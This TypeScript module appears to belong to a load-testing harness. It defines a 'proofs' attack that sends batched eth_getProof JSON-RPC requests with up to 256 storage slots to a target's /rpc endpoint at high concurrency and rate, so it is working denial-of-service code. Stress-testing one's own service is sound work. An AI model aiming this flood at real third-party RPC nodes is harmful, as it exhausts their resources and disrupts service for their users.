import { type Attack, client, flood } from './attack.ts'

/** The most that is permitted, now and before. */
const SLOTS = [32, 256]

/** Large storage proofs in full batches, within the limit of an address. */
export const proofs: Attack = {
  name: 'proofs',
  async start({ url }) {
    const send = client(url)
    const home = await (await fetch(url, { headers: { accept: 'application/json' } })).json()
    const [, , address] = (home as { data: { registry: string } }).data.registry.split(':')
    const bodies = SLOTS.map((count) => {
      const slots = Array.from({ length: count }, (_, i) => `0x${(i + 1).toString(16)}`)
      const params = [address, slots, 'latest']
      const proof = { jsonrpc: '2.0', id: 1, method: 'eth_getProof', params }
      return JSON.stringify(Array(10).fill(proof))
    })
    const headers = { 'content-type': 'application/json' }
    return flood({ atOnce: 200, perSecond: 100 }, (number) => {
      const body = bodies[number % bodies.length] ?? ''
      return send('/rpc', { method: 'POST', headers, body })
    })
  },
}
